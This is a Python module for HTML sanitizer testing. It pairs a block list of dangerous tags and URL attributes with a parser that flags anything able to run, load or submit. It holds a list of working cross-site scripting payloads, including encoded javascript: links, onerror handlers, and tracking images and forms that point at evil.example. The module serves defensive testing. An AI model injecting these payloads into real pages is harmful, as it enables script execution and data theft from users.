"""Text that tries to act on a page, and a reader that tells whether any of it still could."""

from __future__ import annotations

import re
from html.parser import HTMLParser

#: What may never come from an author: it loads, runs, asks for input or moves the page.
DANGEROUS = frozenset(
    {
        *("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg"),
        *("math", "form", "input", "button", "select", "textarea", "option", "link", "meta"),
        *("base", "template", "noscript", "audio", "video", "source", "track", "portal", "xml"),
        *("marquee", "dialog", "slot", "body", "html", "head", "title", "image", "area", "map"),
    }
)
ADDRESSES = frozenset(
    {"href", "src", "cite", "action", "formaction", "srcset", "poster", "data", "background"}
)

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="http://evil.example/track.gif">',
    "<img src=//evil.example/track.gif>",
    "![](https://evil.example/track.gif)",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=a><button>Go</button></form>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "# Heading {: onclick=alert(1)}",
    "<div onclick=alert(1)>\n\n**x**\n\n</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<p id=main>a second main</p>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "`<script>`</script><script>alert(1)//",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='https://example.org' target=_blank>x</a>",
)


class _Watch(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS or ":" in tag:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]", "", value or "").replace("\\", "/").lower()
            if name.startswith("on") or name in ("style", "target", "srcdoc") or ":" in name:
                self.found.append(f"{tag} {name}")
            if name in ADDRESSES and re.match(r"(?!https?:|mailto:|tel:)[^/?#]*:|//", address):
                self.found.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src" and re.match(r"[^/?#]*:|/", address):
                self.found.append(f"picture {value}")
            if name == "id" and value == "main":
                self.found.append("a second main")

    def handle_comment(self, data: str) -> None:
        self.found.append("a comment")

    def handle_pi(self, data: str) -> None:
        self.found.append("an instruction")

    def unknown_decl(self, data: str) -> None:
        self.found.append("a declaration")


def dangers(html: str) -> list[str]:
    """Everything in a piece of HTML that could act, load or ask."""
    watch = _Watch()
    watch.feed(html)
    watch.close()
    return watch.found
